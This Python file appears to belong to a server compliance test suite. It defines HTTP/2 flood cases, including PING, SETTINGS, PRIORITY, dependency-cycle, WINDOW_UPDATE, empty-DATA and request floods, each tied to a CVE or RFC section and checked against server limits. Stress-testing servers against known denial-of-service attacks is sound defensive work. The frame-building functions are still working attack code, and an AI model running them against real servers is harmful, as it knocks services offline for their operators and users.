"""HTTP/2: floods of frames that are each legal and cheap to send."""

from __future__ import annotations

from collections.abc import Iterator

from compliance.attacks import frames as f
from compliance.attacks.cases.http2_resets import CALM
from compliance.attacks.model import Stage, attack
from compliance.attacks.wire import Play, for_ever

_GLITCHES = ("h2_max_glitches", "h2_glitches_per_second")
_MANY = 1000


def _flood(stage: Stage, block: bytes, opening: bytes = b"", *, reads: bool = True) -> None:
    script = for_ever(block, f.OPENING + opening)
    Play(stage, script, f.HTTP2Reader, width=2, reads=reads).run()


@attack(
    "h2-ping-flood",
    "HTTP/2",
    "PING without end",
    bounds=_GLITCHES,
    source="CVE-2019-9512",
    answer=CALM,
    every=True,
)
def ping_flood(stage: Stage) -> None:
    """Every PING is to be answered."""
    _flood(stage, f.frame(f.PING, 0, 0, b"12345678") * _MANY)


@attack(
    "h2-ping-unread",
    "HTTP/2",
    "PING without end, the answers left unread",
    bounds=("h2_max_output_control", "h2_max_glitches"),
    source="CVE-2019-9512",
)
def ping_unread(stage: Stage) -> None:
    """What the server answers piles up."""
    _flood(stage, f.frame(f.PING, 0, 0, b"12345678") * _MANY, reads=False)


@attack(
    "h2-settings-flood",
    "HTTP/2",
    "SETTINGS without end",
    bounds=_GLITCHES,
    source="CVE-2019-9515",
    answer=CALM,
    every=True,
)
def settings_flood(stage: Stage) -> None:
    """Empty SETTINGS, each to be acknowledged."""
    _flood(stage, f.settings() * _MANY)


@attack(
    "h2-settings-entries",
    "HTTP/2",
    "SETTINGS frames of 2,730 entries each",
    bounds=(*_GLITCHES, "h2_max_inbound_frame_size"),
    source="CVE-2020-11080",
    answer=CALM,
    every=True,
)
def settings_entries(stage: Stage) -> None:
    """Frames as large as may be, the window size set over and over."""
    _flood(stage, f.settings(*[(4, 65535 - n % 2) for n in range(2730)]) * 8)


@attack(
    "h2-settings-windows",
    "HTTP/2",
    "INITIAL_WINDOW_SIZE changed for ever with 100 streams open",
    bounds=_GLITCHES,
    source="CVE-2019-9515",
    answer=CALM,
    every=True,
    calls=100,
)
def settings_windows(stage: Stage) -> None:
    """Every change touches every stream."""
    streams = b"".join(f.headers(n, f.request(b"/wait")) for n in range(1, 200, 2))
    _flood(stage, (f.settings((4, 1)) + f.settings((4, 70000))) * _MANY, streams)


@attack(
    "h2-priority-flood",
    "HTTP/2",
    "PRIORITY without end",
    bounds=(*_GLITCHES, "h2_priority_closed_streams"),
    source="CVE-2019-9513",
    answer=CALM,
    every=True,
)
def priority_flood(stage: Stage) -> None:
    """Idle streams moved about below each other."""
    block = b"".join(
        f.frame(f.PRIORITY, 0, n, f.word(n - 2 if n > 2 else 0) + b"\x20")
        for n in range(1, 2001, 2)
    )
    _flood(stage, block)


@attack(
    "h2-dependency-cycles",
    "HTTP/2",
    "PRIORITY that turns chains of 100 open streams upside down",
    bounds=(*_GLITCHES, "h2_priority_closed_streams"),
    source="CVE-2015-8659, CVE-2019-9513",
    answer=CALM,
    every=True,
    calls=100,
)
def dependency_cycles(stage: Stage) -> None:
    """A chain, then its root moved below its leaf, exclusively, again and again."""
    ids = range(1, 200, 2)
    streams = b"".join(f.headers(n, f.request(b"/wait")) for n in ids)
    chain = b"".join(
        f.frame(f.PRIORITY, 0, n, f.word((n - 2 if n > 2 else 0) | 1 << 31) + b"\xff") for n in ids
    )
    turned = b"".join(
        f.frame(f.PRIORITY, 0, n, f.word((n + 2 if n < 199 else 1) | 1 << 31) + b"\x01")
        for n in ids
    )
    _flood(stage, (chain + turned) * 5, streams)


@attack(
    "h2-priority-update-flood",
    "HTTP/2",
    "PRIORITY_UPDATE for streams that do not exist yet",
    bounds=_GLITCHES,
    source="RFC 9218 section 7",
    answer=CALM,
    every=True,
)
def priority_update_flood(stage: Stage) -> None:
    """Each names another stream."""
    block = b"".join(
        f.frame(f.PRIORITY_UPDATE, 0, 0, f.word(n) + b"u=1, i") for n in range(1, 4001, 2)
    )
    _flood(stage, block)


@attack(
    "h2-window-update-flood",
    "HTTP/2",
    "WINDOW_UPDATE of one byte without end",
    bounds=_GLITCHES,
    source="CVE-2019-9511",
    answer=CALM,
    every=True,
    calls=1,
)
def window_update_flood(stage: Stage) -> None:
    """On the connection and on a stream."""
    update = f.frame(f.WINDOW_UPDATE, 0, 0, f.word(1)) + f.frame(f.WINDOW_UPDATE, 0, 1, f.word(1))
    _flood(stage, update * _MANY, f.headers(1, f.request(b"/wait")))


@attack(
    "h2-empty-data-flood",
    "HTTP/2",
    "DATA of no bytes, and of padding only",
    bounds=_GLITCHES,
    source="CVE-2019-9518",
    answer=CALM,
    every=True,
    calls=1,
    subset=True,
)
def empty_data_flood(stage: Stage) -> None:
    """Both forms on a request that is being read."""
    block = f.frame(f.DATA, 0, 1) + f.frame(f.DATA, f.PADDED, 1, b"\x05" + bytes(5))
    _flood(stage, block * _MANY, f.headers(1, f.request(b"/read", method=b"POST"), end=False))


@attack(
    "h2-tiny-data-flood",
    "HTTP/2",
    "a body of one byte a frame",
    bounds=("h2_stream_window_size", "(one turn of the loop for one read)"),
    source="CVE-2019-9518",
    calls=2,
)
def tiny_data_flood(stage: Stage) -> None:
    """Legal to the end: it must only not keep the others waiting. 1 MiB, as what waits in the
    socket is worked off behind the attack."""

    def script(number: int) -> Iterator[bytes | float]:
        yield f.OPENING + f.headers(1, f.request(b"/read", method=b"POST"), end=False)
        for _ in range(100):
            yield f.frame(f.DATA, 0, 1, b"x") * _MANY

    Play(stage, script, f.HTTP2Reader, width=2, respawn=False).run()


@attack(
    "h2-unknown-flood",
    "HTTP/2",
    "frames of an unknown type, empty and of 16 KiB",
    bounds=_GLITCHES,
    source="RFC 9113 section 10.5",
    answer=CALM,
    every=True,
)
def unknown_flood(stage: Stage) -> None:
    """To be ignored, each of them."""
    _flood(stage, f.frame(0xBE) * _MANY + f.frame(0xBF, 0, 0, bytes(16384)))


@attack(
    "h2-request-flood",
    "HTTP/2",
    "complete requests, 2,000 a second",
    bounds=("h2_max_concurrent_streams", "(one turn of the loop for one read)"),
    source="RFC 9113 section 10.5",
    calls=100_000,
)
def request_flood(stage: Stage) -> None:
    """An honest flood: it may be served, and must not starve others."""

    def script(number: int) -> Iterator[bytes | float]:
        yield f.OPENING + f.frame(f.WINDOW_UPDATE, 0, 0, f.word(2**30))
        for start in range(1, 2**20, 100):
            yield b"".join(f.headers(n, f.request(b"/")) for n in range(start, start + 100, 2))
            yield 0.1

    Play(stage, script, f.HTTP2Reader, width=4).run()
